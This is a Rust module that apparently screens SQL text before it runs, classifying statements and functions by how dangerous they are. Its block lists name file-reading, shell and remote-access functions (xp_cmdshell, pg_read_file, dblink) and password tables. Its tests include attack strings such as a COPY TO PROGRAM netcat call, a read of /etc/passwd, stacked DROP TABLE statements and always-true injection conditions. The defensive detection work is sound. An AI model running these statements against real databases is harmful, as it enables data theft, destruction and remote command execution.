//! SQL, read as the database reads it: which statements, what they change, and which functions reach out of the
//! database. A statement is harmless only if its kind is one that is known to look; all others are held.

use std::ops::ControlFlow;

use serde::Deserialize;
use sqlparser::ast::{
    BinaryOperator, CopySource, CopyTarget, Expr, FromTable, Function, FunctionArg, FunctionArgExpr, FunctionArguments, Ident, ObjectName,
    ObjectNamePart, Query, Select, Set, SetExpr, SetOperator, Statement, TableFactor, Value as Literal, Visit, Visitor,
};
use sqlparser::dialect;
use sqlparser::parser::Parser;

use super::danger::Danger;
use super::{Finding, Group, Sight};
use crate::domain::json::{Pointer, Value};

/// The longest text that is read, in bytes.
const LONGEST: usize = 128 * 1024;
/// How deep brackets may nest, and how many statements there may be.
const DEEPEST: usize = 40;
/// The most words and signs: a chain such as `1 + 1 + …` becomes a tree as deep as it is long.
const MOST: usize = 10_000;
/// A stack that such a tree fits on, in bytes.
const STACK: usize = 256 << 20;

/// Whose SQL it is.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Dialect {
    /// Nobody said: it is read as PostgreSQL, MySQL and a general form, and the worst reading counts.
    #[default]
    Unknown,
    /// PostgreSQL.
    Postgresql,
    /// MySQL and MariaDB.
    Mysql,
    /// SQLite.
    Sqlite,
    /// Microsoft SQL Server.
    Mssql,
    /// Google BigQuery.
    Bigquery,
    /// Snowflake.
    Snowflake,
}

pub(super) fn observe(dialect: Dialect, pointer: &Pointer, value: &Value, seen: &mut Sight<'_>) {
    let text = match value {
        Value::String(text) => text.clone(),
        Value::Array(items) if items.iter().all(|item| matches!(item, Value::String(_))) => {
            items.iter().filter_map(Value::as_str).collect::<Vec<_>>().join(";\n")
        }
        _ => {
            seen.find(Finding::uninspectable("sql", Group::Content, "the statement is not text").at(pointer, value));
            return;
        }
    };
    for danger in dangers(&text, dialect) {
        if danger.destroys {
            seen.fact("sql", "destroys", Value::Bool(true));
        }
        if danger.opaque {
            seen.fact("sql", "unreadable", Value::Bool(true));
        }
        if danger.weight >= 600 {
            seen.fact("sql", "writes", Value::Bool(true));
        }
        seen.find(danger.finding("sql", pointer));
    }
}

/// What is dangerous in a text of SQL; nothing if it only looks.
pub(super) fn dangers(text: &str, dialect: Dialect) -> Vec<Danger> {
    let mut found = Vec::new();
    if text.len() > LONGEST {
        return vec![Danger::excess("the SQL is longer than 128 KiB".into(), text)];
    }
    if nesting(text) > DEEPEST {
        return vec![Danger::excess("the SQL is nested too deeply".into(), text)];
    }
    let words = words(text);
    if words > MOST {
        return vec![Danger::excess("the SQL has more than 10,000 words".into(), text)];
    }
    if text.contains("/*!") || text.contains("/*M!") {
        found.push(Danger::new(650, "a comment that MySQL runs", text).opaque_code());
    }
    if text.contains('\0') {
        found.push(Danger::unread("the SQL holds a NUL character".into(), text));
    }
    let readings: &[Dialect] = match &dialect {
        Dialect::Unknown => &[Dialect::Postgresql, Dialect::Mysql, Dialect::Unknown],
        known => std::slice::from_ref(known),
    };
    let reading = |dialect| match words {
        // Reading, walking and letting go of a tree all recurse; this much fits on any thread.
        0..200 => reading(text, dialect),
        _ => stacker::grow(STACK, || reading(text, dialect)),
    };
    let mut read: Vec<Vec<Danger>> = readings.iter().filter_map(|dialect| reading(*dialect)).collect();
    if read.is_empty() && dialect != Dialect::Unknown {
        read.extend(reading(Dialect::Unknown).map(|mut dangers| {
            dangers.push(Danger::new(300, "the SQL is not of the dialect that is expected", text).aside(Group::Integrity));
            dangers
        }));
    }
    match read.into_iter().max_by_key(|dangers| dangers.iter().map(|d| d.weight).max()) {
        Some(dangers) => found.extend(dangers),
        None => {
            found.push(Danger::unread("the SQL cannot be read".into(), text));
            // Some databases and clients run the statements before the one that they stumble over.
            let parts = text.split(';').filter(|part| part.len() < text.len() && !part.trim().is_empty()).take(200);
            found.extend(parts.filter_map(|part| stacker::grow(STACK, || self::reading(part, Dialect::Unknown))).flatten());
        }
    }
    found
}

/// Whether a text begins as a statement does, for arguments nobody said anything about.
pub(super) fn looks_like(text: &str) -> bool {
    let first: String = text.trim_start().chars().take_while(|c| c.is_ascii_alphabetic()).collect::<String>().to_lowercase();
    let verbs = [
        "select", "insert", "update", "delete", "with", "create", "drop", "alter", "truncate", "grant", "revoke", "explain", "show", "copy", "merge",
        "call", "do", "set", "begin", "commit", "vacuum", "exec", "execute", "replace", "attach", "pragma", "use", "describe", "analyze",
    ];
    verbs.contains(&first.as_str()) && text.trim().contains(char::is_whitespace)
}

fn reading(text: &str, dialect: Dialect) -> Option<Vec<Danger>> {
    let generic = dialect::GenericDialect {};
    let chosen: &dyn dialect::Dialect = match dialect {
        Dialect::Unknown => &generic,
        Dialect::Postgresql => &dialect::PostgreSqlDialect {},
        Dialect::Mysql => &dialect::MySqlDialect {},
        Dialect::Sqlite => &dialect::SQLiteDialect {},
        Dialect::Mssql => &dialect::MsSqlDialect {},
        Dialect::Bigquery => &dialect::BigQueryDialect {},
        Dialect::Snowflake => &dialect::SnowflakeDialect {},
    };
    let statements = Parser::new(chosen).with_recursion_limit(DEEPEST).try_with_sql(text).ok()?.parse_statements().ok()?;
    let mut look = Look { dangers: Vec::new(), joined: false };
    if statements.len() > 1 {
        look.dangers.push(Danger::new(350, format!("{} statements at once", statements.len()), text).aside(Group::Integrity));
    }
    for statement in statements.iter().take(1000) {
        let _ = statement.visit(&mut look);
    }
    Some(look.dangers)
}

/// How many words and signs there are.
fn words(text: &str) -> usize {
    let (mut count, mut inside) = (0, false);
    for c in text.chars() {
        let part = c.is_alphanumeric() || c == '_';
        count += usize::from(!(c.is_whitespace() || (part && inside)));
        inside = part;
    }
    count
}

/// How deep brackets nest, whatever quotes say.
fn nesting(text: &str) -> usize {
    let (mut depth, mut deepest) = (0usize, 0usize);
    let (mut nots, mut selects) = (0usize, 0usize);
    for c in text.chars() {
        match c {
            '(' | '[' => depth += 1,
            ')' | ']' => depth = depth.saturating_sub(1),
            '-' | '+' | '~' | '!' => nots += 1,
            _ => nots = 0,
        }
        selects = selects.max(nots);
        deepest = deepest.max(depth);
    }
    // A chain of signs is a nesting, too, but a line of dashes is a comment.
    deepest.max(if text.contains("--") { 0 } else { selects / 4 })
}

struct Look {
    dangers: Vec<Danger>,
    joined: bool,
}

impl Look {
    fn add(&mut self, weight: u16, reason: impl Into<String>, what: &dyn std::fmt::Display) {
        self.dangers.push(Danger::new(weight, reason, &what.to_string()));
    }

    fn statement(&mut self, statement: &Statement) {
        match statement {
            Statement::Query(_) | Statement::ExplainTable { .. } => {}
            Statement::Explain { analyze, statement: inner, options, .. } => {
                let analyzed = *analyze || options.iter().flatten().any(|option| option.name.value.eq_ignore_ascii_case("analyze"));
                if analyzed && !matches!(inner.as_ref(), Statement::Query(_)) {
                    self.add(500, "`EXPLAIN ANALYZE` runs what it explains", statement);
                }
                // The statement inside is judged by the visitor.
            }
            Statement::ShowFunctions { .. }
            | Statement::ShowVariable { .. }
            | Statement::ShowStatus { .. }
            | Statement::ShowVariables { .. }
            | Statement::ShowCreate { .. }
            | Statement::ShowColumns { .. }
            | Statement::ShowCatalogs { .. }
            | Statement::ShowDatabases { .. }
            | Statement::ShowProcessList { .. }
            | Statement::ShowSchemas { .. }
            | Statement::ShowCharset(_)
            | Statement::ShowObjects(_)
            | Statement::ShowTables { .. }
            | Statement::ShowViews { .. }
            | Statement::ShowCollation { .. }
            | Statement::Print(_) => {}
            Statement::Insert(insert) if insert.overwrite || insert.replace_into => {
                self.dangers.push(Danger::new(700, "it replaces rows", &statement.to_string()).destroying());
            }
            Statement::Insert(_) => self.add(650, "it adds rows", statement),
            Statement::Update(update) => {
                self.add(680, "it changes rows", statement);
                self.bounded(update.selection.as_ref(), "it changes every row", statement);
            }
            Statement::Delete(delete) => {
                self.dangers.push(Danger::new(740, "it deletes rows", &statement.to_string()).destroying());
                let limited = delete.limit.is_some();
                let (FromTable::WithFromKeyword(tables) | FromTable::WithoutKeyword(tables)) = &delete.from;
                if !limited && (delete.using.is_none() || tables.is_empty()) {
                    self.bounded(delete.selection.as_ref(), "it deletes every row", statement);
                }
            }
            Statement::Truncate(_)
            | Statement::Drop { .. }
            | Statement::DropFunction(_)
            | Statement::DropProcedure { .. }
            | Statement::DropTrigger(_)
            | Statement::DropExtension(_)
            | Statement::DropPolicy(_)
            | Statement::DropDomain(_)
            | Statement::DropSecret { .. } => {
                self.dangers.push(Danger::new(780, "it removes what holds data or protects it", &statement.to_string()).destroying().unbounded());
            }
            Statement::Grant(grant) => {
                let text = grant.to_string();
                let upper = text.to_uppercase();
                let admin =
                    ["ALL PRIVILEGES", "SUPERUSER", "WITH GRANT OPTION", "GRANT ALL", "OWNERSHIP", " SUPER", "PG_WRITE_SERVER_FILES", "PG_EXECUTE"];
                let danger = Danger::new(720, "it gives rights", &text);
                self.dangers.push(if admin.iter().any(|word| upper.contains(word)) { danger.granting() } else { danger });
            }
            Statement::CreateRole(_)
            | Statement::CreateUser(_)
            | Statement::AlterUser(_)
            | Statement::AlterRole { .. }
            | Statement::Deny(_)
            | Statement::Revoke(_)
            | Statement::AlterPolicy(_)
            | Statement::CreatePolicy(_) => {
                let danger = Danger::new(720, "it changes who has which rights", &statement.to_string());
                self.dangers.push(if statement.to_string().to_uppercase().contains("SUPERUSER") { danger.granting() } else { danger });
            }
            Statement::Copy { target, to, source, .. } => match target {
                CopyTarget::Program { .. } => {
                    self.dangers.push(Danger::new(780, "it runs a program on the database's machine", &statement.to_string()).opaque_code())
                }
                CopyTarget::File { .. } => self.add(740, "it reads or writes a file on the database's machine", statement),
                CopyTarget::Stdout if *to => {
                    if let CopySource::Query(query) = source {
                        let _ = query.visit(self);
                    }
                }
                _ => self.add(650, "it adds rows", statement),
            },
            Statement::Set(set) => self.set(set),
            Statement::Use(_) | Statement::UnlockTables => self.add(420, "it changes the session", statement),
            Statement::StartTransaction { .. }
            | Statement::Commit { .. }
            | Statement::Rollback { .. }
            | Statement::Savepoint { .. }
            | Statement::ReleaseSavepoint { .. } => {
                self.add(620, "it begins or ends a transaction, which may be what keeps it from writing", statement);
            }
            Statement::Pragma { name, value, .. } => {
                let looks = [
                    "table_info",
                    "table_list",
                    "index_list",
                    "index_info",
                    "database_list",
                    "foreign_key_list",
                    "table_xinfo",
                    "schema_version",
                    "user_version",
                    "page_count",
                ];
                let name = name.to_string().to_lowercase();
                if !(looks.contains(&name.as_str()) && (value.is_none() || name.contains('_'))) {
                    self.add(640, "it changes how the database works", statement);
                }
            }
            Statement::Call(function) => self.add(680, format!("it runs the procedure `{}`", short(&function.name)), statement),
            Statement::Execute { .. } | Statement::Prepare { .. } => {
                self.dangers.push(Danger::opaque("it runs a statement that is not shown", &statement.to_string()))
            }
            other => {
                let text = other.to_string();
                let verb: String = text.split_whitespace().take(2).collect::<Vec<_>>().join(" ").to_uppercase();
                let rights = ["GRANT", "REVOKE", "ALTER DEFAULT"].iter().any(|start| verb.starts_with(start));
                let weight = if rights { 720 } else { 660 };
                self.dangers.push(Danger::new(weight, format!("`{verb}` changes the database or the session"), &text));
            }
        }
    }

    fn set(&mut self, set: &Set) {
        let text = set.to_string();
        let lower = text.to_lowercase();
        let guards = [
            "role",
            "authorization",
            "row_security",
            "read_only",
            "read write",
            "search_path",
            "session_replication_role",
            "sql_log_bin",
            "foreign_key_checks",
            "global",
            "log_",
            "shared_preload",
            "local_infile",
            "unique_checks",
            "sql_mode",
        ];
        if guards.iter().any(|word| lower.contains(word)) {
            self.add(720, "it changes a setting that protects the database", set);
        } else if !lower.contains("transaction read only") {
            self.add(620, "it changes a setting", set);
        }
    }

    fn bounded(&mut self, selection: Option<&Expr>, reason: &str, statement: &Statement) {
        if selection.is_none_or(always) {
            self.dangers.push(Danger::new(800, reason, &statement.to_string()).destroying().unbounded());
        }
    }

    fn function(&mut self, function: &Function) {
        let name = short(&function.name);
        let lower = name.to_lowercase();
        if let Some(reason) = reaches_out(&lower) {
            self.dangers.push(Danger::new(720, format!("`{name}` {reason}"), &function.to_string()));
        } else if !known(&lower) {
            self.dangers.push(Danger::new(400, format!("`{name}` is not one of the functions that are known to look only"), &function.to_string()));
        }
        // `query_to_xml('DELETE …')` and the like hide a statement in a text.
        if let FunctionArguments::List(list) = &function.args {
            for argument in &list.args {
                if let FunctionArg::Unnamed(FunctionArgExpr::Expr(Expr::Value(value))) = argument
                    && let Literal::SingleQuotedString(text) | Literal::DollarQuotedString(sqlparser::ast::DollarQuotedString { value: text, .. }) =
                        &value.value
                    && ["insert ", "update ", "delete ", "drop ", "alter ", "truncate ", "create ", "grant ", "copy "]
                        .iter()
                        .any(|verb| text.to_lowercase().trim_start().starts_with(verb))
                {
                    self.dangers.push(Danger::new(680, "a statement is hidden in a text that is given to a function", text));
                }
            }
        }
    }
}

impl Visitor for Look {
    type Break = ();

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<()> {
        self.statement(statement);
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        if !query.locks.is_empty() {
            self.add(600, "it locks the rows that it reads", query);
        }
        self.joined |= matches!(query.body.as_ref(), SetExpr::SetOperation { op: SetOperator::Union, .. });
        if matches!(query.body.as_ref(), SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_)) {
            self.add(700, "a statement that changes rows stands within a query", query);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_ident(&mut self, ident: &Ident) -> ControlFlow<()> {
        let name = ident.value.to_lowercase();
        let words = ["password", "passwd", "pwd", "secret", "api_key", "apikey", "access_token", "private_key", "credit_card", "card_number", "ssn"];
        if words.iter().any(|word| name.contains(word)) {
            self.add(
                if self.joined { 620 } else { 420 },
                format!("it names `{}`, which sounds like credentials or personal data", ident.value),
                ident,
            );
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<()> {
        if select.into.is_some() {
            self.add(660, "`SELECT … INTO` makes a table or writes a file", select);
        }
        if let Some(selection) = &select.selection
            && reassuring(selection)
        {
            self.add(620, "its condition is made always true, as injected text does", selection);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        let name = relation.to_string().to_lowercase().replace(['"', '`', '[', ']'], "");
        let secret = [
            "pg_shadow",
            "pg_authid",
            "pg_user_mapping",
            "pg_user_mappings",
            "pg_hba_file_rules",
            "pg_file_settings",
            "mysql.user",
            "pg_largeobject",
            "pg_statistic",
            "sys.sql_logins",
            "syslogins",
            "master..",
            "pg_subscription",
        ];
        if secret.iter().any(|table| name == *table || name.ends_with(&format!(".{table}")) || name.contains("master..")) {
            self.add(650, "it reads where the database keeps passwords or files", relation);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
        let name = match factor {
            TableFactor::Table { name, args: Some(_), .. } | TableFactor::Function { name, .. } => name,
            _ => return ControlFlow::Continue(()),
        };
        let name = short(name);
        if let Some(reason) = reaches_out(&name.to_lowercase()) {
            self.add(720, format!("`{name}` {reason}"), factor);
        } else if !known(&name.to_lowercase()) {
            self.add(400, format!("`{name}` is not one of the functions that are known to look only"), factor);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        if let Expr::Function(function) = expr {
            self.function(function);
        }
        ControlFlow::Continue(())
    }
}

/// The last part of a name, without quotes.
fn short(name: &ObjectName) -> String {
    match name.0.last() {
        Some(ObjectNamePart::Identifier(ident)) => ident.value.clone(),
        Some(other) => other.to_string(),
        None => String::new(),
    }
}

/// Whether a condition is true for every row, as far as its text tells.
fn always(expr: &Expr) -> bool {
    match expr {
        Expr::Value(value) => match &value.value {
            Literal::Boolean(it) => *it,
            Literal::Number(text, _) => text.parse::<f64>().is_ok_and(|n| n != 0.0),
            Literal::SingleQuotedString(text) => text.parse::<f64>().is_ok_and(|n| n != 0.0) || text.eq_ignore_ascii_case("true") || text == "t",
            _ => false,
        },
        Expr::Nested(inner) => always(inner),
        Expr::BinaryOp { left, op: BinaryOperator::Or, right } => always(left) || always(right),
        Expr::BinaryOp { left, op: BinaryOperator::And, right } => always(left) && always(right),
        Expr::BinaryOp { left, op, right } => match op {
            BinaryOperator::Eq | BinaryOperator::GtEq | BinaryOperator::LtEq | BinaryOperator::Spaceship => {
                left == right
                    || both(left, right).is_some_and(|(a, b)| match op {
                        BinaryOperator::Eq | BinaryOperator::Spaceship => a == b,
                        BinaryOperator::GtEq => a >= b,
                        _ => a <= b,
                    })
            }
            BinaryOperator::NotEq => both(left, right).is_some_and(|(a, b)| a != b),
            BinaryOperator::Gt => both(left, right).is_some_and(|(a, b)| a > b),
            BinaryOperator::Lt => both(left, right).is_some_and(|(a, b)| a < b),
            _ => false,
        },
        Expr::IsNotNull(inner) => matches!(inner.as_ref(), Expr::Value(_)),
        Expr::IsTrue(inner) => always(inner),
        Expr::IsNotFalse(inner) => always(inner),
        Expr::Like { negated: false, pattern, .. } | Expr::ILike { negated: false, pattern, .. } => {
            matches!(pattern.as_ref(), Expr::Value(value) if matches!(&value.value, Literal::SingleQuotedString(text) if text == "%"))
        }
        Expr::Exists { negated: false, subquery } => {
            subquery.to_string().to_uppercase().starts_with("SELECT 1") && !subquery.to_string().to_uppercase().contains("FROM")
        }
        _ => false,
    }
}

fn both(left: &Expr, right: &Expr) -> Option<(String, String)> {
    let one = |expr: &Expr| match expr {
        Expr::Value(value) => Some(match &value.value {
            Literal::Number(text, _) => format!("{:0>24}", text),
            other => other.to_string(),
        }),
        _ => None,
    };
    Some((one(left)?, one(right)?))
}

/// `… OR 1=1` in a query that only looks: an ordinary query has no use for it.
fn reassuring(expr: &Expr) -> bool {
    match expr {
        Expr::Nested(inner) => reassuring(inner),
        Expr::BinaryOp { left, op: BinaryOperator::Or, right } => always(left) || always(right) || reassuring(left) || reassuring(right),
        Expr::BinaryOp { left, op: BinaryOperator::And, right } => reassuring(left) || reassuring(right),
        _ => false,
    }
}

/// What a function does beyond looking at rows.
fn reaches_out(name: &str) -> Option<&'static str> {
    const FILES: [&str; 18] = [
        "load_file",
        "readfile",
        "writefile",
        "load_extension",
        "edit",
        "openrowset",
        "opendatasource",
        "openquery",
        "openxml",
        "bfilename",
        "fts3_tokenizer",
        "read_csv",
        "read_parquet",
        "read_text",
        "read_blob",
        "read_json",
        "file",
        "glob",
    ];
    const WAITS: [&str; 6] = ["pg_sleep", "pg_sleep_for", "pg_sleep_until", "sleep", "benchmark", "waitfor"];
    const RUNS: [&str; 16] = [
        "xp_cmdshell",
        "sp_oacreate",
        "sp_oamethod",
        "sp_executesql",
        "xp_regwrite",
        "xp_regread",
        "xp_dirtree",
        "sys_exec",
        "sys_eval",
        "query_to_xml",
        "query_to_xml_and_xmlschema",
        "cursor_to_xml",
        "database_to_xml",
        "schema_to_xml",
        "table_to_xml",
        "plpy",
    ];
    const SETS: [&str; 16] = [
        "set_config",
        "setval",
        "nextval",
        "pg_notify",
        "pg_stat_reset",
        "pg_promote",
        "pg_switch_wal",
        "pg_cancel_backend",
        "pg_terminate_backend",
        "pg_reload_conf",
        "pg_rotate_logfile",
        "updatexml",
        "extractvalue",
        "pg_export_snapshot",
        "txid_current",
        "get_lock",
    ];
    if FILES.contains(&name)
        || name.starts_with("pg_read_")
        || name.starts_with("pg_ls_")
        || name == "pg_stat_file"
        || name.starts_with("lo_")
        || name.starts_with("loread")
        || name.starts_with("lowrite")
        || name.starts_with("pg_file_")
        || name == "pg_current_logfile"
    {
        return Some("reaches files on the database's machine");
    }
    if name.starts_with("dblink")
        || name.starts_with("utl_")
        || name.starts_with("dbms_")
        || name.starts_with("http_")
        || name == "httpuritype"
        || name.starts_with("postgres_fdw")
    {
        return Some("reaches other machines");
    }
    if RUNS.contains(&name) || name.starts_with("xp_") || name.starts_with("sp_") {
        return Some("runs programs or hidden statements");
    }
    if WAITS.contains(&name) {
        return Some("keeps the database waiting");
    }
    let writes = [
        "pg_advisory",
        "pg_try_advisory",
        "pg_stat_reset",
        "pg_create_",
        "pg_drop_",
        "pg_logical_",
        "pg_replication_",
        "pg_backup",
        "pg_start_backup",
        "pg_stop_backup",
        "pg_wal_",
        "pg_copy_",
        "pg_import_",
        "pg_log_",
        "pg_xact_commit",
        "brin_",
        "gin_clean",
        "pg_prewarm",
    ];
    if SETS.contains(&name) || writes.iter().any(|start| name.starts_with(start)) {
        return Some("changes the database or its settings");
    }
    None
}

/// Functions of common databases that only compute or look.
fn known(name: &str) -> bool {
    const EXACT: &str = " count sum avg min max abs ceil ceiling floor round trunc truncate mod power pow sqrt exp ln log log10 log2 sign random rand pi greatest least coalesce nullif \
        ifnull isnull nvl nvl2 iif if decode lower upper initcap trim ltrim rtrim btrim length len char_length character_length octet_length bit_length substring substr left right lpad rpad \
        replace reverse repeat concat concat_ws position strpos instr locate split_part string_agg group_concat listagg array_agg format to_char to_date to_timestamp to_number cast convert \
        try_cast now current_date current_time current_timestamp localtime localtimestamp date time datetime timestamp getdate sysdate sysdatetime getutcdate utc_timestamp curdate curtime \
        date_trunc date_part extract age date_add date_sub dateadd datediff date_diff date_format strftime julianday unixepoch from_unixtime unix_timestamp str_to_date year month day hour minute second \
        dayofweek dayofyear week quarter last_day make_date make_time make_timestamp make_interval timestampdiff timestampadd isfinite justify_days justify_hours justify_interval clock_timestamp \
        statement_timestamp transaction_timestamp timeofday row_number rank dense_rank percent_rank cume_dist ntile lag lead first_value last_value nth_value percentile_cont percentile_disc mode \
        stddev stddev_pop stddev_samp variance var_pop var_samp corr covar_pop covar_samp regr_slope regr_intercept regr_r2 bool_and bool_or every any some all bit_and bit_or approx_count_distinct \
        array array_length array_to_string string_to_array unnest cardinality array_position array_remove array_append array_cat array_contains array_upper array_lower array_dims \
        json_extract json_value json_query json_object json_array json_each json_tree json_group_array json_group_object json_type json_valid json_array_length json_agg jsonb_agg json_object_agg \
        jsonb_object_agg json_build_object jsonb_build_object json_build_array jsonb_build_array to_json to_jsonb row_to_json jsonb_each json_array_elements jsonb_array_elements jsonb_array_elements_text \
        json_object_keys jsonb_object_keys jsonb_extract_path jsonb_extract_path_text jsonb_typeof jsonb_path_query jsonb_path_exists jsonb_set jsonb_pretty json_unquote json_keys json_contains \
        regexp_replace regexp_match regexp_matches regexp_split_to_table regexp_split_to_array regexp_like regexp_substr regexp_count regexp_instr like glob_match soundex difference levenshtein similarity \
        to_tsvector to_tsquery plainto_tsquery websearch_to_tsquery phraseto_tsquery ts_rank ts_rank_cd ts_headline ts_debug setweight numnode querytree strip match against generate_series \
        generate_subscripts md5 sha1 sha2 sha256 sha512 crc32 encode hex unhex to_hex ascii chr char unicode quote quote_ident quote_literal quote_nullable version current_user session_user user current_schema \
        current_schemas current_database current_catalog database schema current_setting inet_server_addr inet_client_addr pg_backend_pid pg_is_in_recovery pg_postmaster_start_time pg_conf_load_time \
        pg_size_pretty pg_relation_size pg_total_relation_size pg_table_size pg_indexes_size pg_database_size pg_tablespace_size pg_column_size pg_get_indexdef pg_get_constraintdef pg_get_viewdef \
        pg_get_functiondef pg_get_expr pg_get_serial_sequence pg_get_userbyid pg_get_triggerdef pg_get_ruledef pg_typeof format_type obj_description col_description shobj_description has_table_privilege \
        has_schema_privilege has_column_privilege has_database_privilege has_function_privilege pg_has_role pg_table_is_visible pg_function_is_visible pg_stat_get_numscans pg_blocking_pids to_regclass \
        txid_current_if_assigned width_bucket scale numeric degrees radians sin cos tan asin acos atan atan2 cot gcd lcm factorial div cbrt bit_count uuid gen_random_uuid uuid_generate_v4 newid typeof \
        changes total_changes last_insert_rowid last_insert_id row_count found_rows connection_id printf nullifzero zeroifnull st_distance st_within st_contains st_intersects st_astext st_asgeojson \
        st_geomfromtext st_point st_x st_y st_area st_length st_buffer st_makepoint st_setsrid st_transform st_dwithin cosine_distance l2_distance inner_product host network netmask broadcast masklen \
        family hostmask inet_merge inet_same_family text xmlagg xmlelement xpath safe_cast safe_divide parse_date parse_timestamp format_date format_timestamp timestamp_trunc timestamp_diff \
        timestamp_add date_from_parts countif logical_and logical_or struct farm_fingerprint generate_uuid any_value array_concat arrayagg object_construct parse_json get_path flatten table_info \
        pragma_table_info pragma_index_list hypopg_reset_off row isdate isnumeric object_id object_name db_name schema_name type_name col_name suser_name eomonth datename datepart string_split \
        charindex patindex stuff space str checksum grouping exists interval overlaps starts_with ends_with contains to_base64 from_base64 bin oct conv sha interval_bin tablesample elt field find_in_set \
        makedate maketime period_add period_diff sec_to_time time_to_sec to_days from_days weekday yearweek dayname monthname adddate subdate addtime subtime inet_aton inet_ntoa is_ipv4 is_ipv6 bit_xor \
        json_arrayagg json_objectagg json_pretty json_search json_length json_depth normalize overlay translate string_to_table trim_array array_sort array_fill log1p expm1 median ";
    EXACT.split_whitespace().any(|word| word == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn worst(text: &str, dialect: Dialect) -> u16 {
        dangers(text, dialect).iter().map(|d| d.weight).max().unwrap_or(0)
    }

    #[test]
    fn what_only_looks_is_not_held() {
        for text in [
            "select 1",
            "SELECT name, count(*) FROM orders o JOIN shops s USING (shop) WHERE o.day > now() GROUP BY 1 ORDER BY 2 DESC LIMIT 5",
            "WITH t AS (SELECT 1) SELECT * FROM t",
            "EXPLAIN SELECT * FROM orders",
            "SHOW TABLES",
            "SELECT 'DROP TABLE orders' AS words",
            "SELECT 1 -- DELETE FROM orders",
        ] {
            assert!(worst(text, Dialect::Postgresql) < 600 && worst(text, Dialect::Unknown) < 600, "{text}: {:?}", dangers(text, Dialect::Unknown));
        }
    }

    #[test]
    fn what_writes_is_held_wherever_it_stands() {
        for text in [
            "INSERT INTO t VALUES (1)",
            "WITH gone AS (DELETE FROM orders RETURNING id) SELECT * FROM gone",
            "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 3",
            "SELECT 1; DROP TABLE orders",
            "SELECT * INTO copied FROM orders",
            "COPY orders TO PROGRAM 'nc example.org 9'",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT \"pg_read_file\"('/etc/passwd')",
            "SELECT * FROM dblink('host=example.org', 'SELECT 1') AS t(a int)",
            "SELECT query_to_xml('delete from orders', true, true, '')",
            "SET ROLE postgres",
            "COMMIT",
            "SELECT 1 /*! ; DROP TABLE orders */",
            "DO $$ BEGIN DELETE FROM orders; END $$",
            "VACUUM FULL orders",
            "not sql at all",
        ] {
            assert!(worst(text, Dialect::Postgresql) >= 600, "{text}: {:?}", dangers(text, Dialect::Postgresql));
        }
    }

    #[test]
    fn a_change_without_bounds_has_the_highest_floor() {
        let floor = |text: &str| {
            let found = dangers(text, Dialect::Unknown);
            found.into_iter().filter_map(|d| d.finding("sql", &Pointer::root()).floor.map(|f| f.score)).max()
        };
        for text in ["DELETE FROM t", "DELETE FROM t WHERE 1=1", "UPDATE t SET a = 1 WHERE 'x' = 'x' OR a = 2", "DROP TABLE t", "TRUNCATE t"] {
            assert_eq!(floor(text), Some(85), "{text}");
        }
        assert_eq!(floor("DELETE FROM t WHERE id = 4"), None);
        // What cannot be read hides nothing that can.
        assert_eq!(floor("DROP TABLE t; no such statement"), Some(85));
        assert_eq!(floor(&format!("DROP TABLE t; -- {}", "x ".repeat(70_000))), Some(85));
    }

    #[test]
    fn bombs_end_soon() {
        let bombs = [
            "(".repeat(50_000),
            format!("SELECT {}1{}", "(".repeat(39), ")".repeat(39)),
            format!("SELECT {}1", "- ".repeat(20_000)),
            format!("SELECT {}1", "NOT ".repeat(20_000)),
            format!("SELECT {}1", "1 + ".repeat(30_000)),
            format!("SELECT 1 WHERE {}1=1", "a=1 OR ".repeat(15_000)),
            format!("SELECT 1 {}", "UNION SELECT 1 ".repeat(8_000)),
            format!("SELECT {}", "CASE WHEN 1 THEN ".repeat(5_000)),
            format!("SELECT a{}", "::text".repeat(15_000)),
            format!("SELECT a{}", "[1]".repeat(20_000)),
            format!("SELECT * FROM a {}", "JOIN b ON 1=1 ".repeat(8_000)),
            format!("{}SELECT 1", "EXPLAIN ".repeat(10_000)),
            format!("WITH {} SELECT 1", (0..5_000).map(|n| format!("c{n} AS (SELECT 1)")).collect::<Vec<_>>().join(",")),
        ];
        for bomb in bombs {
            let _ = dangers(&bomb, Dialect::Unknown);
        }
    }
}
